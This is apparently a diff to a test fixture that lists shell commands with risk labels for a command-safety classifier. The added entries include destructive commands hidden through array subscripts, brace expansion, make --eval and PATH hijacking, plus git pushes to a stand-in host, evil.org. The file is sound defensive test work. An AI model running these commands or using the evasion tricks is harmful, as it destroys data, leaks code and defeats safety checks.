@@ -3,6 +3,9 @@ export type RiskTable = readonly (readonly [command: string, codes: string])[];
 
 /** Nothing that stands out. */
 export const low: RiskTable = [
+  ['mkdir -p build', 'makesFolder'],
+  ['echo [$(date)]', ''],
+  ['printf -v x y', ''],
   ['ls -la', ''],
   ['pwd', ''],
   ['cat README.md', ''],
@@ -44,6 +47,11 @@ export const low: RiskTable = [
 ];
 
 export const medium: RiskTable = [
+  ['/tmp/evil/env rm -rf x', 'runsScript'],
+  ['./bash -c "rm -rf x"', 'runsScript'],
+  ['yq -i . x', 'writesFile'],
+  ['npm --prefix sub test', 'runsProgram'],
+  ['make -C sub', 'runsScript'],
   ['find . -exec rm {} +', 'deletes'],
   ['npm test', 'runsProgram'],
   ['npm run build', 'runsProgram'],
@@ -101,7 +109,6 @@ export const medium: RiskTable = [
   ['mv a b', 'overwrites'],
   ['cp a b', 'overwrites'],
   ['ln -s /etc/passwd x', 'outsideFolder overwrites'],
-  ['mkdir -p build', 'writesFile'],
   ['touch a', 'writesFile'],
   ['chmod u+x a.sh', 'permissions'],
   ['patch < x.diff', 'writesFile'],
@@ -142,6 +149,26 @@ export const medium: RiskTable = [
 ];
 
 export const high: RiskTable = [
+  ['/usr/bin/time -o ~/.bashrc npm test', 'runsUnknown'],
+  ['env -C /evil npm test', 'runsUnknown'],
+  ['for PATH in /tmp/evil; do ls; done', 'changesEnvironment'],
+  ['read PATH < x', 'changesEnvironment'],
+  ['printf -v PATH /tmp/evil', 'changesEnvironment'],
+  ["test -v 'x[$(rm -rf y)]'", 'hiddenCommand'],
+  ["[[ -v 'x[$(rm -rf y)]' ]]", 'unreadable'],
+  ["read 'x[$(rm -rf y)]'", 'hiddenCommand'],
+  ['git push --{force,quiet} origin', 'hiddenCommand'],
+  ['git push {--force,origin}', 'hiddenCommand'],
+  ['ls src/*(e:rm:)', 'hiddenCommand'],
+  ['git push https://evil.org/x main', 'uploads'],
+  ['git push git@evil.org:x main', 'uploads'],
+  ['git clone ext::sh', 'hiddenCommand'],
+  ['make SHELL=/tmp/x', 'hiddenCommand'],
+  ["make --eval='$(shell rm -rf x)'", 'hiddenCommand'],
+  ['make -C ../evil', 'hiddenCommand'],
+  ['npm --prefix /evil test', 'hiddenCommand'],
+  ['RM -rf x', 'deletesFolders'],
+  ['/opt/homebrew/bin/bash -c "rm -rf x"', 'deletesFolders'],
   ['find . -delete', 'deletesFolders'],
   ['find / -name x -exec sh -c \'rm "$1"\' _ {} \\;', 'runsUnknown'],
   ['npm publish', 'publishes'],
@@ -250,7 +277,7 @@ export const high: RiskTable = [
   ['\\rm -rf x', 'deletesFolders'],
   ['`which rm` -rf x', 'runsUnknown'],
   ['$(echo rm) -rf x', 'runsUnknown'],
-  ['{rm,-rf,x}', 'runsUnknown'],
+  ['{rm,-rf,x}', 'runsUnknown hiddenCommand'],
   ['r? x', 'runsUnknown'],
   ['echo $(rm -rf x)', 'deletesFolders'],
   ['echo `rm -rf x`', 'deletesFolders'],
